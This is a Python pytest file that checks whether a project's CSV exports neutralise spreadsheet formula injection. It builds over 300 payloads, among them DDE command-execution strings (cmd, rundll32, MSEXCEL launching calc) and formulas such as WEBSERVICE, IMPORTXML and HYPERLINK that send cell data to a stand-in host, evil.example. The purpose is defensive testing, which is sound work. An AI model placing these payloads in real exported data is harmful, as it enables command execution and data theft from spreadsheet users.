"""No cell of any table that we write can be taken for a formula, whatever a report or an editor says."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from api_desk import ApiDesk, all_operations, api_desk
from musterbook.desk.cli import main
from musterbook.desk.web.rest.operations import ROOT, Operation
from musterbook.model import Report
from web_desk import TODAY

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u2003@",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
)
BODIES = (
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"Click")',
    "SUM(1+1)*cmd|'/C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
    'DDE("cmd";"/C calc";"!A0")',
    "1+1",
    '2+5+cmd|"/C calc"!A0',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMAGE("http://evil.example/x.png")',
    "A1",
    '"=cmd|calc"!A0',
    "'=1+1",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'EXEC("calc")',
    'INDIRECT("A"&ROW())',
    'FILES("*")',
    "AND(1,1)\n=1+1",
    "A1;=1+1",
    'REGISTER("a","b")',
)
PAYLOADS = [start + body for start, body in itertools.product(STARTS, BODIES)]
SIGNS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠")
PLACES = ("Syria", "Iraq", "Jordan", "Kuwait")


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 300


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApiDesk]:
    """A desk whose book is full of them: in titles, texts, publishers, speakers, addresses and reasons."""
    with api_desk(tmp_path_factory.mktemp("formulas")) as found:
        found.book.add(hostile(number, words) for number, words in enumerate(PAYLOADS))
        assert len(found.book.statements()) > len(PAYLOADS)
        for said, words in zip(found.book.statements(), PAYLOADS, strict=False):
            found.book.correct(said.id, {"speaker": words, "unit": words}, words)
        found.settle()
        yield found


def hostile(number: int, words: str) -> Report:
    text = f"{words} Some {900 + number} U.S. soldiers are in {PLACES[number % 4]}, {words} said. {words}"
    return Report(text, words, words, f"{words} {number}", published=TODAY, credits=(words,), name=words)


TABLES = [op for op in all_operations() if op.rows and "{mission}" not in op.path]


@pytest.mark.parametrize("one", TABLES, ids=lambda one: one.name)
def test_no_table_of_the_api_holds_a_formula(desk: ApiDesk, one: Operation) -> None:
    address = ROOT + one.path.replace("{force}", "us").replace("{place}", "syria")
    more = {"search": "&q=soldiers&limit=1000", "curve": ""}.get(one.name, "&limit=1000")
    answer = desk.client.get(f"{address}?format=csv{more}")
    assert answer.status_code == 200, answer.text[:300]
    rows = [*csv.reader(io.StringIO(answer.text, newline=""))]
    assert len({len(row) for row in rows}) == 1
    assert [cell for row in rows for cell in row if is_formula(cell)] == []


@pytest.mark.parametrize("place", PLACES)
def test_no_table_of_a_chart_holds_a_formula(desk: ApiDesk, tmp_path: Path, place: str) -> None:
    out = tmp_path / "course.csv"
    book = str(desk.book.ledger.store.name)
    done = CliRunner().invoke(main, ["chart", "us", place, "-o", str(out), "--book", book])
    assert done.exit_code == 0, done.output
    rows = [*csv.reader(out.open(encoding="utf-8", newline=""))]
    assert len(rows) > len(PAYLOADS) / len(PLACES)
    assert [cell for row in rows for cell in row if is_formula(cell)] == []


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet could take it for one; a negative number is none."""
    if not cell.strip().startswith(SIGNS) and not cell.startswith(("\t", "\r", "\n")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_json_tells_the_words_as_they_are(desk: ApiDesk) -> None:
    told = {row["title"] for row in desk.get("/reports?limit=1000")["items"]}
    assert set(PAYLOADS) <= told
